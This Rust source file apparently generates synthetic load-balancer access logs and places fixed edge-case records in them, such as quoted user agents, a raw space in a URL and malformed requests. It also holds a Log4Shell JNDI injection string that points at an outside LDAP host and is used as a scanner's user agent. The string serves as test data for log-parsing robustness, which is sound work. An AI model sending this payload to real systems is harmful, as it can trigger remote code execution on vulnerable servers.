//! The one-off requests at fixed times of day: quoted user agents, a raw space in a URL,
//! malformed requests and a Log4Shell probe, each testing how readers cope with odd lines.

use super::response::{floor_ms, Outcome, Profile};
use super::routes::Route;
use super::timeline::{hm, US};
use super::Scenario;
use crate::generate::record::{Listener, Record, Source};
use crate::generate::rng::Rng;

pub(crate) const LOG4SHELL_UA: &str = "${jndi:ldap://198.51.100.23:1389/Exploit}";
pub(crate) const LOG4SHELL_PATH: &str = "/api/v1/login";
pub(crate) const MALFORMED_IP: &str = "198.51.100.77";
pub(crate) const MALFORMED_REQUEST: &str = "- http://hosp.example.com:80- -";
/// A browser user agent wrapped in quotes; ALB writes `"` as `\x22`.
pub(crate) const QUOTED_UA: &str = "\\x22Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36\\x22";
/// A URL with a raw (not %-encoded) space.
pub(crate) const SPACE_PATH: &str = "/notes?patient_id=42&q=ear infection";

/// One-off requests at fixed times of day (microseconds after midnight).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Special {
    QuotedUserAgent,
    SpaceInUri,
    Malformed,
    Log4Shell,
}

pub(crate) const SPECIALS: [(i64, Special); 8] = [
    (hm(6, 12) * US + 7_412_803, Special::QuotedUserAgent),
    (hm(6, 31) * US + 44_518_220, Special::QuotedUserAgent),
    (hm(7, 2) * US + 19_907_115, Special::QuotedUserAgent),
    (hm(8, 30) * US + 12_118_204, Special::SpaceInUri),
    (hm(8, 30) * US + 13_402_917, Special::SpaceInUri),
    (hm(16, 45) * US + 3_771_920, Special::Malformed),
    (hm(16, 45) * US + 4_020_311, Special::Malformed),
    (hm(22, 7) * US + 33_250_114, Special::Log4Shell),
];

impl Scenario {
    pub(super) fn special(&self, rng: &mut Rng, t: i64, kind: Special) -> Record {
        match kind {
            Special::QuotedUserAgent => {
                let mut conn = self.clinic_conn(rng, t);
                conn.ua = QUOTED_UA.to_string();
                let path = Route::PatientGet.path(rng);
                self.forwarded(
                    rng,
                    t,
                    &conn,
                    Route::PatientGet,
                    path,
                    Outcome::Ok,
                    Profile::Normal,
                    Source::QuotedUserAgent,
                )
            }
            Special::SpaceInUri => {
                let conn = self.clinic_conn(rng, t);
                let mut r = self.forwarded(
                    rng,
                    t,
                    &conn,
                    Route::NotesByPatient,
                    SPACE_PATH.to_string(),
                    Outcome::Ok,
                    Profile::Normal,
                    Source::SpaceInUri,
                );
                r.classification = Some(("Acceptable", "SpaceInUri"));
                r
            }
            Special::Malformed => {
                let conn = Self::fresh_conn(rng, MALFORMED_IP, "-", Listener::Http, false);
                Record {
                    time_us: t,
                    rct_us: floor_ms(t - rng.range(50_000, 300_000) as i64),
                    listener: Listener::Http,
                    client_ip: conn.ip,
                    client_port: conn.port,
                    target: None,
                    times_ms: None,
                    elb_status: 400,
                    target_status: None,
                    received_bytes: 0,
                    sent_bytes: 272,
                    method: "-",
                    path: String::new(),
                    raw_request: Some(MALFORMED_REQUEST),
                    user_agent: "-".to_string(),
                    tls: None,
                    target_group: None,
                    trace_id: None,
                    rule_priority: "-",
                    actions: "-",
                    error_reason: "-",
                    classification: None,
                    conn_trace_id: conn.tid,
                    node: conn.node,
                    edge_id: None,
                    viewer_ip: None,
                    source: Source::Malformed,
                    endpoint: "-".to_string(),
                    truth_method: "-",
                }
            }
            Special::Log4Shell => self.scanner_request(rng, t, LOG4SHELL_PATH, LOG4SHELL_UA),
        }
    }
}
